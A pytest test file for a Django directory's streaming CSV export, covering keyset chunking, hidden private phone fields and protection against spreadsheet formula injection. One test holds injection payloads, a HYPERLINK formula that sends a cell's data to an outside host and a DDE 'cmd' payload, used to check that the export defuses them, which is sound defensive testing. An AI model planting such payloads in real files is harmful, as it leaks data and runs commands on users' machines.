"""The directory's CSV export streams: read a chunk at a time after the last row read
(keyset), never counted nor offset, so each chunk costs the same and memory stays flat."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.profiles import selectors
from apps.profiles.models import ProfileFieldPolicy
from apps.profiles.services import profile_refresh_search
from tests.factories import ProfileFactory, UserFactory

pytestmark = pytest.mark.django_db

PEOPLE = 11
CHUNK = 3


@pytest.fixture
def directory():
    people = []
    for i in range(PEOPLE):
        # Two share a name: the chunks must still neither repeat nor skip anyone.
        user = UserFactory(first_name="Same" if i in (2, 3) else f"Person{i:02d}", last_name="Test")
        profile = ProfileFactory(user=user, phone_mobile="+33 6 11 22 33 44")
        profile_refresh_search(profile=profile)
        people.append(profile)
    ProfileFactory(user=UserFactory(is_active=False))  # a former employee: not exported
    ProfileFieldPolicy.objects.update_or_create(field="phone_mobile", defaults={"is_private": True})
    return people


def _profile_reads(queries) -> list[str]:
    return [q["sql"] for q in queries if q["sql"].startswith('SELECT "profiles_profile"."id"')]


def test_every_chunk_is_read_after_the_last_one_without_offset(directory, user, monkeypatch):
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", CHUNK, raising=False)
    with CaptureQueriesContext(connection) as queries:
        rows = list(selectors.profiles_for_export(viewer=user))
    expected = sorted(directory, key=lambda p: (p.sort_name, p.id))
    assert [row.id for row in rows] == [p.id for p in expected]
    reads = _profile_reads(queries.captured_queries)
    chunks = -(-PEOPLE // CHUNK)
    assert len(reads) == chunks
    assert not any("OFFSET" in sql or "COUNT(" in sql for sql in (q["sql"] for q in queries.captured_queries))
    # once the field policies and the viewer's permissions (user, groups), then per chunk its
    # rows and their skills: nothing grows with the position in the directory
    assert len(queries.captured_queries) == 3 + 2 * chunks


def test_the_response_streams_chunk_by_chunk(client, directory, user, monkeypatch):
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", CHUNK, raising=False)
    client.force_login(user)
    response = client.get("/people/export.csv")
    assert response.streaming
    content = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as queries:
        header = next(content)
        first = next(content)
    assert b"Name" in header and first.startswith(b"Person00 Test")
    assert len(_profile_reads(queries.captured_queries)) == 1  # the first chunk only, so far
    rest = b"".join(content).decode()
    lines = list(csv.reader(io.StringIO(header.decode() + first.decode() + rest)))
    assert len(lines) == 1 + PEOPLE
    mobile = lines[0].index("Mobile phone")
    assert {line[mobile] for line in lines[1:]} == {""}  # private, and the viewer is neither owner nor admin


@pytest.mark.parametrize("formula", ['=HYPERLINK("//e.io/"&A2)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_no_cell_of_the_export_starts_a_formula(client, staff_user, formula):
    """Whatever a column holds, typed by its owner or copied by the directory sync (which
    does not check phone numbers: Active Directory lets people edit their own), a
    spreadsheet reads text, never a formula."""
    from apps.profiles.views import EXPORT_COLUMNS

    manager = ProfileFactory(user=UserFactory(first_name=formula, last_name=formula))
    ProfileFactory(
        user=UserFactory(first_name="Plain", last_name="Person"),
        manager=manager,
        **dict.fromkeys(("display_name", "job_title", "department", "team", "location"), formula),
        phone_work=formula,
        phone_mobile=formula,
    )
    client.force_login(staff_user)  # an admin: private columns are filled in too
    content = b"".join(client.get("/people/export.csv").streaming_content).decode()
    lines = list(csv.reader(io.StringIO(content)))
    assert len(lines[0]) == len(EXPORT_COLUMNS)
    cells = [cell for line in lines[1:] for cell in line]
    assert formula in {cell.lstrip("'") for cell in cells}
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_a_valid_phone_number_is_exported_as_written(client, staff_user):
    ProfileFactory(phone_work="+33 1 23 45 67 89")
    client.force_login(staff_user)
    content = b"".join(client.get("/people/export.csv").streaming_content).decode()
    assert "+33 1 23 45 67 89" in content and "'+33" not in content
